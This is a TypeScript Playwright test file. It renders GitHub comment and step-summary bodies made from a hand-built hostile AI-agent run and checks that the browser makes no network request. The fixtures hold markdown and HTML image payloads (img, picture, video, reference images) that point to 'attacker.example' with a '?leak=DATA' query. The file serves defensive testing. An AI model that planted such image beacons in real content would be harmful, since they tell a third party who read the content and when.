/**
 * No image loads (a hole a security review found: an image in a body tells its host who read
 * it and when), as a reader's browser sees it: comment and step-summary bodies built from a
 * HAND-WRITTEN hostile run (an image in the error reason, the plan, the Now: line's tool
 * description, a table cell, the model; `<img>`, `<picture>`, `<video>` and a reference image whose
 * definition is in another field), at every cap level, rendered as GitHub renders them
 * (scripts/demo/preview.mjs) and opened in headless Chromium with every <details> opened: the page
 * makes no request at all. A control page with one real image proves the request would be seen.
 */
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { previewPage } from '../../scripts/demo/preview.mjs';
import { commentBodies, commentMarker } from '../../src/report/comment.js';
import { stepSummaryBodies } from '../../src/report/step-summary.js';
import { emptySummary, type RunSummary } from '../../src/run/summary.js';
import { call } from '../report/hand-written-summaries.js';
import { type Browser, launchChromium } from '../support/chromium.js';

const ATTACKER = 'https://attacker.example';
const img = (name: string) => `![${name}](${ATTACKER}/${name}.png?leak=DATA)`;
const HTML = `<img src="${ATTACKER}/raw.png"> <picture><source srcset="${ATTACKER}/src.png"></picture> <video poster="${ATTACKER}/poster.png"></video>`;

function hostileRun(status: 'running' | 'finished'): RunSummary {
  return {
    ...emptySummary('claude-code'),
    status,
    outcome: status === 'finished' ? 'error' : null,
    isError: status === 'finished',
    model: `model ${img('model')}`,
    startedAt: 0,
    lastEventAt: 9_000,
    durationMs: status === 'finished' ? 9_000 : null,
    errorMessage: status === 'finished' ? `Tests failed ${img('reason')} ![chart][leak]` : null,
    finalText: `Answer ${img('final')} ${HTML}\n\n[leak]: ${ATTACKER}/ref.png\n`,
    todos: [{ id: null, content: `Fix ${img('todo')} ![c][leak]`, status: 'in_progress' }],
    toolCalls: [
      call({ id: 't1', name: img('tool'), input: { command: `cat ${img('cmd')}` } }),
      call({
        id: 't2',
        name: 'Bash',
        status: status === 'finished' ? 'error' : 'pending',
        input: { command: 'npm test', description: `Run ${img('desc')}` },
        outputPreview: `${img('output')} ${HTML}`,
        exitCode: status === 'finished' ? 1 : null,
        durationMs: null,
        endedAt: null,
        startedAt: 8_000,
      }),
    ],
    retries: [
      {
        attempt: 1,
        maxRetries: 3,
        delayMs: 100,
        httpStatus: 529,
        category: img('cat'),
        message: img('retry'),
        at: 8_500,
      },
    ],
    rateLimit: { status: img('rl'), resetsAt: null },
  };
}

async function requestsWhenShown(page: Page, markdown: string): Promise<string[]> {
  const requests: string[] = [];
  const record = (r: { url(): string }) => requests.push(r.url());
  page.on('request', record);
  try {
    await page.setContent(previewPage(markdown), { waitUntil: 'load' });
    // A reader opens every collapsed section; lazy content would load now.
    for (const summary of await page.locator('#comment-body details > summary').all()) await summary.click();
    await page.waitForLoadState('load');
  } finally {
    page.off('request', record);
  }
  return requests;
}

describe('a hostile run rendered in Chromium loads nothing', () => {
  let browser: Browser;
  let page: Page;
  beforeAll(async () => {
    browser = await launchChromium();
    page = await browser.context.newPage();
  }, 600_000);
  afterAll(async () => {
    await browser?.close();
  });

  it('the control: a real image is requested (the check can see a request)', async () => {
    expect(await requestsWhenShown(page, `hello ${img('control')}`)).toEqual([
      `${ATTACKER}/control.png?leak=DATA`,
    ]);
  });

  for (const status of ['running', 'finished'] as const) {
    it(`every comment body (every cap level) of a ${status} run`, async () => {
      const s = hostileRun(status);
      const bodies = [...commentBodies(s, { now: 9_500, marker: commentMarker('k'), redact: (t) => t })];
      expect(bodies.length).toBeGreaterThanOrEqual(5);
      for (const [i, body] of bodies.entries())
        expect(await requestsWhenShown(page, body), `level ${i}`).toEqual([]);
    });

    it(`every step summary body (every cap level) of a ${status} run`, async () => {
      const s = hostileRun(status);
      for (const [i, body] of [...stepSummaryBodies(s, { redact: (t) => t })].entries())
        expect(await requestsWhenShown(page, body), `level ${i}`).toEqual([]);
    });
  }
});
